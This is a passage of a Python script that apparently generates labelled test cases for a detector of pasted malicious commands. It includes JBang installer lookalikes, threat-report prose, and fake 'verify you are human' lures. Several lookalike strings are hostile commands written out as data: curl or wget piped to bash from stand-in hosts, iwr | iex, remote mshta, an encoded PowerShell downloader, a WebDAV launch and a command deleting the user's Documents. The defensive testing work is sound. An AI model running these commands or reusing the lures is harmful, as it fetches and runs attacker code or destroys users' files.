    ("curl -Ls https://sh.jbang.dev | bash -s - https://cdn.umbra-stage.test/Fix.java", "flagged"),
    ("curl -Ls https://sh.jbang.dev | bash -s - app install https://203.0.113.12/tool.jar", "flagged"),
    ("curl -Ls https://sh.jbang.dev | bash -s - app setup # I am not a robot - Verification ID: 90311", "malicious"),
    ("curl -Ls https://sh.jbang.dev | bash -s - app setup && curl -s https://cdn.umbra-stage.test/p | sh", "flagged"),
    ('iex "& { $(iwr -useb https://ps.jbang.dev.umbra-stage.test) } app setup"', "flagged"),
]  # fmt: skip


def jbang(book: Book) -> None:
    for page, text in JBANG:
        book.add("third-party-installer-jbang", text, "not_flagged", "any", TERMINAL, page)
    for text, expect in JBANG_LOOKALIKES:
        book.add("jbang-lookalike", text, expect, "any", TERMINAL)
    for text, _ in JBANG_LOOKALIKES[:4]:
        book.add(
            "jbang-lookalike-paged",
            text,
            "malicious",
            "any",
            TERMINAL,
            "https://www.java-update-check.test/verify",
        )
    # an official installer a page writes for the Run box: a warning, as typed (run-box-official)
    book.add("jbang-run-box", JBANG[0][1], "suspicious", "windows", RUN, JBANG[0][0])


# -- sentences that name a pipe -------------------------------------------------------------------

PHRASE_PIPES = [
    "The fake meeting page shows a 'Fix audio' button that copies a PowerShell command; the same kit serves a curl | bash line to Mac visitors.",
    "Attackers now tell Linux users to run a wget | sudo bash one-liner from the fake support page.",
    "Never paste a curl | sh command from a page you do not trust, however urgent it sounds.",
    "Our policy bans curl | bash installs on production hosts; use the signed packages instead.",
    "Why do so many projects still document curl | bash as their main install method?",
    "The campaign switched from PowerShell to a curl | zsh chain aimed at macOS users in March.",
    "Treat any page that asks you to paste a wget | sh line into a terminal as hostile.",
    "Piping curl | sudo bash is convenient, but you run whatever the server sends at that moment.",
    "In the second stage the lure swaps the PowerShell payload for a curl | bash line.",
    "Blue teams should alert on curl | bash patterns launched from a browser process.",
    "She explained why a curl | sh installer is no worse than a downloaded package, and why it still feels risky.",
    "Ask yourself who wrote it before you run a curl | bash snippet from a forum.",
]  # fmt: skip
PHRASE_PIPE_LOOKALIKES = [
    ("Verify you are human by running this now; curl x | bash", "flagged"),
    ("Please verify you are human by running curl -s https://x.test/a | bash", "flagged"),
    ("To continue the setup run the curl line below | bash -s -- --repair", "flagged"),
    ("To continue the setup please run this curl | sh evil.sh", "flagged"),
    ("Continue the setup as described in the guide | curl cdn.umbra-stage.test/i | bash", "flagged"),
    ("Continue the setup as described in the guide & curl -s 203.0.113.8/i | sh", "flagged"),
    ("Continue the setup as the page describes; wget -qO- cdn.umbra-stage.test | sh", "flagged"),
    ("Finish the setup the way the guide says with curl | bash $HOME/.cache/x", "flagged"),
    ("Finish the setup as the guide says | bash <(curl -s https://cdn.umbra-stage.test/a)", "flagged"),
    ("Finish the setup as the guide says | python3 -c 'import os'; curl -s https://x.test/a | sh", "flagged"),
    ("Thanks for waiting, the repair starts now | curl -fsSL https://cdn.umbra-stage.test/r | sudo bash", "flagged"),
]  # fmt: skip


def phrase_pipes(book: Book) -> None:
    sources = [
        None,
        "https://blog.threat-notes.example/2026/fake-meet",
        "https://wiki.corp.example/security/shell",
    ]
    for i, text in enumerate(PHRASE_PIPES):
        book.add("prose-phrase-pipe", text, "not_flagged", "any", UNKNOWN, sources[i % 3])
    for text in PHRASE_PIPES[:4]:
        book.add("prose-phrase-pipe", text, "not_flagged", "any", TERMINAL, sources[1])
    for text, expect in PHRASE_PIPE_LOOKALIKES:
        book.add("phrase-pipe-lookalike", text, expect, "linux", TERMINAL)
        book.add("phrase-pipe-lookalike", text, expect, "linux", UNKNOWN)


# -- write-ups that name a command in backticks ---------------------------------------------------

WRITE_UPS = [
    "A cluster of fake check pages now wraps the pasted command in `conhost.exe --headless`, which keeps the console window from appearing. Rules keyed on explorer.exe -> powershell.exe miss the conhost.exe parent.",
    "The loader starts `mshta` with a remote HTA in the first stage, so watch for mshta.exe spawned by explorer.exe.",
    "Defenders should look for `powershell -w hidden` launched from the Run dialog, a sign of a pasted command.",
    "We saw the lure switch to `conhost --headless` around the middle of the month, always as the first word of the pasted line.",
    "Block `regsvr32 /s /n /u /i:` on workstations where nobody registers components by hand; it is a favourite proxy.",
    "The second variant drops the hidden window and simply runs `cmd /c start /min` before the real payload.",
    "Whenever `bitsadmin /transfer` shows up in your logs on a kiosk, treat the host as compromised and isolate it.",
    "The page tells visitors to press Win+R, which opens the Run box, and the clipboard already holds a `powershell -enc` line.",
    "In the newest kit the command starts with `pushd` to a WebDAV share rather than calling the downloader directly.",
    "Our detections flag `msiexec /q /i` with a remote package when the parent is explorer.exe.",
    "Attackers abuse `finger` as a downloader on Windows because few proxies inspect port 79.",
]  # fmt: skip
WRITE_UP_LOOKALIKES = [
    ("To verify you are human, press Win+R and paste `conhost.exe --headless powershell -w h -c iwr https://x.test/a | iex` then press Enter.", UNKNOWN, "malicious"),
    ("To verify you are human, press Win+R and paste `conhost.exe --headless cmd /c del /q %USERPROFILE%\\Documents\\*` then press Enter.", UNKNOWN, "flagged"),
    ("The loader starts `mshta https://cdn.umbra-stage.test/a.hta` in the first stage.", UNKNOWN, "flagged"),
    ("The loader starts `mshta http://198.51.100.4/a.hta` in the first stage, from the Run box.", UNKNOWN, "flagged"),
    ("Run `powershell -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AeAAuAHQAZQBzAHQALwBhACAAfAAgAGkAZQB4AA==` to fix the audio driver now.", UNKNOWN, "flagged"),
    ("A cluster of fake check pages now wraps the pasted command in `conhost.exe --headless`, which keeps the console window from appearing.", TERMINAL, "flagged"),
    ("The loader starts `mshta` with a remote HTA in the first stage, so watch for mshta.exe spawned by explorer.exe.", RUN, "flagged"),
    ("Paste `pushd \\\\203.0.113.5@SSL\\dav & start x.exe` into the address bar to open the shared invoice.", UNKNOWN, "flagged"),
    ("Defenders should look for `powershell -w hidden` launched from the Run dialog, a sign of a pasted command.", RUN, "flagged"),
    ("Copy `curl -s https://cdn.umbra-stage.test/i | bash` into Terminal to finish the update.", UNKNOWN, "flagged"),
]  # fmt: skip


def write_ups(book: Book) -> None:
    pages = [
        None,
        "https://research.secteam.example/conhost-headless",
        "https://blog.threat-notes.example/2026/loader",
    ]
    for i, text in enumerate(WRITE_UPS):
        book.add("write-up-named-command", text, "not_flagged", "any", UNKNOWN, pages[i % 3])
    for text in WRITE_UPS[:4]:
        book.add("write-up-named-command", text, "not_flagged", "any", EDITOR, pages[1])
    for text, target, expect in WRITE_UP_LOOKALIKES:
        book.add("write-up-lookalike", text, expect, "windows", target)


def build() -> list[dict[str, str]]:
    book = Book("b11b")
    repository_buckets(book)
    language_letters(book)
    relative_fetches(book)
    offer_help(book)
    maven(book)
    run_box_refresh(book)
    jbang(book)
    phrase_pipes(book)
    write_ups(book)
    services(book)
    return book.cases


CASES = build()


def main() -> None:
    write(OUT, CASES)


if __name__ == "__main__":
    main()
